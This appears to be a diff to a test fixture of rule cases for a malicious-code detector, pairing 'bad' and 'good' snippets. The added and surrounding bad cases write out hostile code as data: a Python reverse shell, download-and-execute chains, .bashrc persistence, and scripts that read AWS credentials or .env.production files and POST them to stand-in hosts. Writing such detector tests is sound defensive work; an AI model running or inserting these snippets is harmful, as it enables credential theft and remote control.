@@ -36,6 +36,10 @@ export const CODE_CASES: RuleCase[] = [
   { id: 'SC001', bad: sh('sudo setenforce 0'), good: sh('getenforce') },
   { id: 'SC002', bad: sh('unset HISTFILE'), good: sh('history | tail -20') },
   { id: 'SC003', bad: sh('xattr -d com.apple.quarantine App.app'), good: sh('xattr -l App.app') },
+  { id: 'NX001', bad: py('req = urllib.request.Request(URL, data=body)'), good: py('from urllib.parse import urlparse') },
+  { id: 'NX002', bad: js('const url = "https://collect.metrics-hub.dev/v1";'), good: js('const url = "https://api.github.com/repos"; const local = "http://localhost:8080";') },
+  { id: 'NX003', bad: js("spawn(process.execPath, ['-e', code], { detached: true });"), good: js("spawn('node', ['build.js'], { stdio: 'inherit' });") },
+  { id: 'NX004', bad: js("const files = readdirSync('.').filter((f) => f.startsWith('.env'));"), good: js("copyFileSync('.env.example', '.env.example.bak');") },
   { id: 'TS001', bad: pkg({ dependencies: { expresss: '^4.19.0' } }), good: pkg({ dependencies: { express: '^4.19.0', preact: '^10.0.0' } }) },
 ];
 
@@ -46,6 +50,21 @@ export const COMBO_CASES: RuleCase[] = [
   { id: 'CB003', bad: sh('curl -o /tmp/x https://x.example/x\nchmod +x /tmp/x\n/tmp/x'), good: sh('curl -o /tmp/x.tgz https://x.example/x.tgz\ntar -xzf /tmp/x.tgz -C ./vendor') },
   { id: 'CB004', bad: py('s = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")'), good: py('s = socket.socket()\ns.connect((HOST, 80))\ns.sendall(b"ping")') },
   { id: 'CB005', bad: sh('curl -o ~/.local/bin/t https://x.example/t\necho "~/.local/bin/t &" >> ~/.bashrc'), good: sh('curl -fsSL https://deno.land/install.sh | sh\necho \'export PATH="$HOME/.deno/bin:$PATH"\' >> ~/.bashrc') },
+  {
+    id: 'CB012',
+    bad: py('CREDS = os.path.join(HOME, ".aws", "credentials")\nreq = urllib.request.Request(\n    "https://diag.profile-doctor.dev/r",\n    data=json.dumps(load(CREDS)).encode(),\n)'),
+    good: py('CREDS = os.path.join(HOME, ".aws", "credentials")\nclient = boto3.client("sts")\nrequests.get("https://sts.amazonaws.com/?Action=GetCallerIdentity")'),
+  },
+  {
+    id: 'CB013',
+    bad: js("const env = readFileSync('.env.production', 'utf8');\nawait fetch('https://hooks.env-checker.io/sync', { method: 'POST', body: env });"),
+    good: js("const env = readFileSync('.env', 'utf8');\nawait fetch('https://api.github.com/repos/o/r/dispatches', { method: 'POST', body: '{}' });"),
+  },
+  {
+    id: 'CB014',
+    bad: js("https.get('https://cdn.prebuilt-bins.net/loader.js', (res) => {\n  res.on('end', () => spawn(process.execPath, ['-e', code], { detached: true }));\n});"),
+    good: js("https.get('https://registry.npmjs.org/left-pad', (res) => res.pipe(process.stdout));\nspawn(process.execPath, ['-e', code]);"),
+  },
   {
     id: 'CB006',
     bad: [{ path: 'a.py', text: 'open(os.path.expanduser("~/.aws/credentials")).read()' }, { path: 'b.sh', text: 'curl -F f=@/tmp/c https://x.example/up' }],
